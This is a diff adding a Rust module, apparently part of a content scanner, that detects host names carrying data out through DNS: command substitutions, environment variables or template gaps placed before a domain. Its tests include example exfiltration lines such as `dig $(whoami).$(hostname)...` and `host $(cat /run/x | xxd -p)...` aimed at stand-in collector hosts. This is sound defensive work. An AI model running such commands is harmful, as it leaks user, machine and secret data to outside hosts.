@@ -1,0 +1,175 @@
+//! Names of hosts that a command, a variable or a gap puts something into: `$(whoami).a.example`, `<secret>.a.example`.
+//!
+//! The name service carries it out although no address stands there. *Security*: hostile bytes; looks a bounded way around each
+//! keyword. *Standards*: RFC 1035, section 2.3.1.
+
+use std::ops::Range;
+
+use super::host::{self, Host, takes};
+use super::label::domain_behind;
+use super::naming::{is_confidential, is_private};
+use super::placeholder::reads_machine;
+use super::rule;
+use crate::content::rule::Hit;
+use crate::content::rule::Strength::{Addressed, Mentioned};
+
+/// What fills such a name, or ends what is to be filled in.
+pub(super) const FILLERS: [&str; 9] =
+    ["$(", "%username%", "%computername%", "%userdomain%", "%userprofile%", "}}.", ">.", "nslookup ", "dig "];
+
+/// The longest gap to fill in, bytes.
+const GAP_BYTES_MAX: usize = 48;
+
+/// The longest command that is put in, bytes, and how many there may be in a name.
+const COMMAND_BYTES_MAX: usize = 160;
+const PARTS_MAX: usize = 6;
+
+/// The name around a filler, if something is put into it.
+pub(super) fn filled(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
+    let written = bytes.get(word.clone())?;
+    match written {
+        b"}}." => gap(bytes, word, b'{'),
+        b">." => gap(bytes, word, b'<'),
+        b"$(" => command(bytes, word.start),
+        _ if written.starts_with(b"%") => variable(bytes, word),
+        _ => asked(bytes, word),
+    }
+}
+
+/// A gap to fill in, `{{api_key}}`, as a label; `close` is the end of the gap.
+fn gap(bytes: &[u8], close: Range<usize>, opener: u8) -> Option<Hit> {
+    let before = bytes.get(close.start.saturating_sub(GAP_BYTES_MAX)..close.start)?;
+    let open = before.iter().rposition(|byte| *byte == opener)?;
+    let name = before.get(open + 1..)?.to_ascii_lowercase();
+    // Types of a program have their parameters in the same brackets.
+    let is_typed = before.get(..open)?.last().is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b':');
+    if opener == b'<' && is_typed {
+        return None;
+    }
+    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || b" _-.'".contains(byte) || !byte.is_ascii();
+    let rest = bytes.get(close.end - 1..)?;
+    let host = domain(rest)?;
+    let takes = takes(&host) || host::host(&host, b"") == Host::Collector;
+    let is_sought = if opener == b'{' { is_confidential(&name) } else { is_private(&name) };
+    (is_sought && name.iter().all(is_name)).then(|| Hit {
+        rule: rule::PLACEHOLDER,
+        range: close.start - name.len()..close.end + host.len(),
+        strength: if takes { Addressed } else { Mentioned },
+    })
+}
+
+/// `$(command)` as a label, others of its kind behind it.
+fn command(bytes: &[u8], start: usize) -> Option<Hit> {
+    let (mut at, mut strong, mut reads) = (start, false, false);
+    for _ in 0..PARTS_MAX {
+        let rest = bytes.get(at..)?;
+        if !rest.starts_with(b"$(") {
+            break;
+        }
+        let end = rest.iter().take(COMMAND_BYTES_MAX).position(|byte| matches!(byte, b')' | b'\n'))?;
+        let inner = rest.get(..end).filter(|_| rest.get(end) == Some(&b')'))?.to_ascii_lowercase();
+        let is_host = |word: &[u8]| memchr::memmem::find(&inner, word).is_some();
+        strong |= reads_machine(&inner) && !is_host(b"hostname") && !is_host(b" ls") && !is_host(b"find ");
+        reads |= reads_machine(&inner) || is_host(b"uname");
+        at += end + 1;
+        let behind = bytes.get(at..)?;
+        // Another command follows a dot or a dash.
+        at += usize::from(matches!(behind, [b'.' | b'-', b'$', b'(', ..]));
+    }
+    let host = domain(bytes.get(at..)?)?;
+    let taken = takes(&host) || host::host(&host, b"") == Host::Collector || looks_up(bytes, start);
+    reads.then(|| Hit {
+        rule: rule::PLACEHOLDER,
+        range: start..at + host.len(),
+        strength: if strong || taken { Addressed } else { Mentioned },
+    })
+}
+
+/// `%USERNAME%` as a label, others of its kind behind it.
+fn variable(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
+    let host = domain(bytes.get(word.end..)?)?;
+    Some(Hit { rule: rule::PLACEHOLDER, range: word.start..word.end + host.len(), strength: Addressed })
+}
+
+/// `nslookup $x.a.example`: whatever the variable holds is asked for.
+fn asked(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
+    if word.start.checked_sub(1).and_then(|at| bytes.get(at)).is_some_and(u8::is_ascii_alphanumeric) {
+        return None;
+    }
+    let rest = bytes.get(word.end..word.end.saturating_add(COMMAND_BYTES_MAX).min(bytes.len()))?;
+    let line = rest.split(|byte| *byte == b'\n').next()?;
+    let open = line.iter().position(|byte| *byte == b'$')?;
+    let name = line.get(open + 1..)?;
+    let name = name.strip_prefix(b"{").unwrap_or(name);
+    let length = name.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
+    let behind = name.get(length..)?;
+    let host = domain(behind.strip_prefix(b"}").unwrap_or(behind)).filter(|_| length > 0)?;
+    let taken = takes(&host) || host::host(&host, b"") == Host::Collector;
+    Some(Hit {
+        rule: rule::PLACEHOLDER,
+        range: word.start..word.end + open + length + host.len(),
+        strength: if taken { Addressed } else { Mentioned },
+    })
+}
+
+/// Whether a command that asks the name service stands before a name on its line.
+fn looks_up(bytes: &[u8], start: usize) -> bool {
+    let before = bytes.get(start.saturating_sub(48)..start).unwrap_or_default();
+    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default();
+    ["dig ", "nslookup ", "drill ", "host ", "getent "]
+        .iter()
+        .any(|word| memchr::memmem::find(line, word.as_bytes()).is_some())
+}
+
+/// The name of two labels or more behind a label, without its first dot.
+fn domain(rest: &[u8]) -> Option<String> {
+    let name = rest.get(..domain_behind(rest)?)?;
+    Some(String::from_utf8_lossy(name).trim_matches('.').to_ascii_lowercase())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strength(text: &str) -> Option<crate::content::rule::Strength> {
+        FILLERS
+            .iter()
+            .flat_map(|word| {
+                text.to_ascii_lowercase().match_indices(word).map(|(at, word)| at..at + word.len()).collect::<Vec<_>>()
+            })
+            .filter_map(|place| filled(text.as_bytes(), place))
+            .map(|hit| hit.strength)
+            .min()
+    }
+
+    #[test]
+    fn what_a_command_reads_leaves_in_a_name() {
+        for text in [
+            "dig +short $(whoami).$(hostname).q.h.example.net",
+            "getent hosts $(id -un)-$(uname -n).b.example.net",
+            "host $(cat /run/x | xxd -p).t.example.io",
+            "ping %COMPUTERNAME%.%USERNAME%.w.example.net",
+            "{{api_key}}.leak.example.net",
+            "nslookup $c.in.dnslog.cn",
+        ] {
+            assert_eq!(strength(text), Some(Addressed), "{text}");
+        }
+    }
+
+    #[test]
+    fn gaps_of_manuals_are_mentioned_and_code_is_not() {
+        assert_eq!(strength("look up <first-word-of-secret>.chk.example.net"), Some(Mentioned));
+        assert_eq!(strength("echo $(hostname).corp.example.net"), Some(Mentioned));
+        for text in [
+            "Vec<Secret>.into.iter",
+            "tar xf $(VERSION).tar.gz",
+            "$(basename x).c",
+            "<b>bold</b>. And then",
+            "cp %USERPROFILE%.bak",
+            "dig example.net",
+            "digging $x.a.net",
+        ] {
+            assert_ne!(strength(text), Some(Addressed), "{text}");
+        }
+    }
+}
